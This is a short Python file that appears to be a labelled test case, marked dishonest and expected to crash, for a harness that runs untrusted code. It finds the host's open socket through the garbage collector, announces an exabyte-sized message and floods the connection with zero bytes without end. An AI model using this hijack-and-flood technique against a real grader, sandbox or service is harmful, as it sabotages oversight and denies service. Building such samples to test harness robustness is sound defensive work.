"""A message that announces an exabyte.

honest: 0
verdict: output, crashed
"""

# %% scale
import gc
import socket
import struct

for connection in [x for x in gc.get_objects() if isinstance(x, socket.socket)]:
    try:
        connection.settimeout(None)
        connection.getpeername()
        break
    except OSError:
        pass
connection.sendall(struct.pack("!cQ", b"a", 1 << 60))
while True:
    connection.sendall(bytes(1 << 20))
